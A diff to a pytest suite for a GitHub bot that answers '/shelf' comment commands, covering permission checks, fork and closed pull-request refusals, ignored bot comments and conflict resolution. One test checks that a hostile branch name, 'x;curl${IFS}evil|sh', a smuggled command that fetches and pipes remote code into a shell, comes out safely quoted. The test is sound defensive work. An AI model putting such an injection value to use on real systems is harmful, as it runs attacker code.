@@ -5,13 +5,23 @@ from writers, never from bots, withdrawn when their comment is gone."""
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from bot import pulls
 from bot.flows import commands, open_pr
-from bot.port import AutoMergeAnswer, AutoMergeResult, Permission, PortError, Reaction, Reason, StatusState
+from bot.port import (
+    AutoMergeAnswer,
+    AutoMergeResult,
+    Permission,
+    PortError,
+    PullState,
+    Reaction,
+    Reason,
+    StatusState,
+)
 from tests.action_harness import episode
 from tests.fakegh import World
 
@@ -90,8 +100,9 @@ def test_auto_merge_with_nothing_to_wait_for_merges_now_and_renders_main(world: 
 
 
 def test_auto_merge_off_never_asks_github(world: World) -> None:
-    push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")})
-    assert not world.gh.ops("enable_auto_merge", "merge")
+    code, _ = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")})
+    assert code == 0 and not world.gh.ops("enable_auto_merge", "disable_auto_merge", "merge")
+    assert not world.gh.pulls[1].auto_merge and not world.gh.pulls[1].merged
 
 
 def test_when_github_will_not_open_the_pull_request_the_run_says_how_to_allow_it(world: World) -> None:
@@ -121,25 +132,61 @@ def test_help_is_answered_for_anyone_with_eyes_then_a_rocket(world: World) -> No
     assert "/shelf resolve" in reply.body
 
 
+def replies(world: World, number: int = 1) -> list[str]:
+    return [c.body for c in world.gh.comments_on.get(number, []) if c.author == "github-actions[bot]"]
+
+
 def test_a_reader_may_not_resolve_whatever_the_event_claims(world: World) -> None:
-    code, _job, event = command(world, "/shelf resolve", author="reader", permission=Permission.READ)
-    assert code == 0 and world.gh.ops("permission") == [("permission", ("reader",))]
-    assert world.gh.reactions[-1] == (event.comment_id, Reaction.FAILED)
-    assert any("needs write access" in c.body for c in world.gh.comments_on[1])
+    head = world.gh.branch_sha("main")
+    code, _, event = command(world, "/shelf resolve", author="curious-reader", permission=Permission.READ)
+    assert code == 0 and world.gh.ops("permission") == [("permission", ("curious-reader",))]
+    assert world.gh.reactions == [(event.comment_id, Reaction.SEEN), (event.comment_id, Reaction.FAILED)]
+    assert replies(world) == ["😕 `/shelf resolve` changes this pull request's branch, so it needs write access to "
+                              "the repository; curious-reader has `read`. Nothing was changed."]
+    assert world.gh.branch_sha("main") == head and not world.gh.ops("create_commit")
+
+
+def test_unknown_commands_get_the_list_and_help_is_case_and_space_tolerant(world: World) -> None:
+    code, _, event = command(world, "/shelf rebase please")
+    assert code == 0 and world.gh.reactions[-1] == (event.comment_id, Reaction.FAILED)
+    [reply] = replies(world)
+    assert reply.startswith("😕 I don't know `/shelf rebase`.\n\nmemshelf-bot answers these commands")
+    assert "| `/shelf resolve` |" in reply and "| `/shelf render` |" in reply
+    helped = world.comment_event(world.gh.pulls[1], "  /SHELF help\nthanks!")
+    assert commands.run(world.job(helped)) == 0
+    assert replies(world)[-1].startswith("memshelf-bot answers these commands")
+    assert world.gh.reactions[-2:] == [(helped.comment_id, Reaction.SEEN), (helped.comment_id, Reaction.DONE)]
+
+
+def test_resolve_refuses_a_fork_branch_and_a_closed_pull_request(world: World) -> None:
+    command(world, "/shelf help")
+    pull = world.gh.pulls[1]
+    world.gh.pulls[1] = replace(pull, head_repo="outsider/shelf", head_label="outsider:patch-1")
+    assert commands.run(world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
+    assert replies(world)[-1].startswith(
+        "😕 `/shelf resolve` cannot work on this pull request: its branch lives in a fork (outsider:patch-1), and "
+        "this job's token can only push to octo/shelf. Nothing was pushed.")
+    world.gh.pulls[1] = replace(pull, state=PullState.CLOSED)
+    assert commands.run(world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
+    assert replies(world)[-1].startswith("😕 `/shelf resolve` cannot work on this pull request: the pull request is "
+                                         "closed. Nothing was pushed.")
+    assert not world.gh.ops("create_commit")
 
 
 def test_a_bots_command_and_a_plain_comment_are_ignored_without_a_word(world: World) -> None:
     for body, author in (("/shelf resolve", "renovate[bot]"), ("looks good", "octo-maintainer")):
+        world.gh.calls.clear()
         code, job, _ = command(world, body, author=author)
-        assert code == 0 and not world.gh.reactions
+        assert code == 0 and not world.gh.reactions and world.gh.calls == []  # not even a read
         assert "Nothing to do" in job.reporter.summary_text()
+    assert "ignoring a /shelf command from a bot (renovate[bot])" in world.out.getvalue()
 
 
 def test_a_command_whose_comment_is_gone_is_withdrawn(world: World) -> None:
     world.gh.refuse("react", Reason.NOT_FOUND)
-    code, job, _ = command(world, "/shelf resolve")
-    assert code == 0 and not world.gh.ops("permission") and "deleted before the bot could act" in \
-        job.reporter.summary_text()
+    code, _, _ = command(world, "/shelf resolve")
+    assert code == 0 and "its comment was deleted before the bot could act" in world.out.getvalue()
+    assert [op for op, _ in world.gh.calls] == ["react"] and replies(world) == []
 
 
 def test_the_manual_steps_quote_a_hostile_branch_name() -> None:
@@ -153,3 +200,22 @@ def test_the_manual_steps_quote_a_hostile_branch_name() -> None:
                                               result=ResolveResult()),
                                    pull, "")
     assert "git switch 'x;curl${IFS}evil|sh'" in reply
+
+
+def test_resolve_from_a_writer_settles_derived_conflicts_and_pushes_a_plain_merge(world: World) -> None:
+    world.commit("night-shift/ups", {UPS: episode("2026-09-22-ups-runtime"), "INDEX.md": "# branch's\n"},
+                 base="main")
+    pull = world.gh.add_pull("night-shift/ups")
+    head = pull.head_sha
+    world.commit("main", {NAS: episode("2026-09-23-nas"), "INDEX.md": "# main's\n"})
+    world.gh.permissions["octo-maintainer"] = Permission.WRITE
+    job = world.job(world.comment_event(pull, "/shelf resolve"))
+    assert commands.run(job) == 0
+    pushed = world.gh.branch_sha("night-shift/ups")
+    assert pushed != head and job.reporter.outputs["commit_sha"] == pushed
+    parents = world.show(pushed, "INDEX.md")
+    assert "UPS runtime" in parents and "# branch's" not in parents  # regenerated from the merged episodes
+    [reply] = [c.body for c in world.gh.comments_on[pull.number] if c.author == "github-actions[bot]"
+               and c.body.startswith("🚀")]
+    assert "Merged `main`" in reply and "a plain push on top of" in reply
+    assert world.gh.reactions[-1][1] is Reaction.DONE
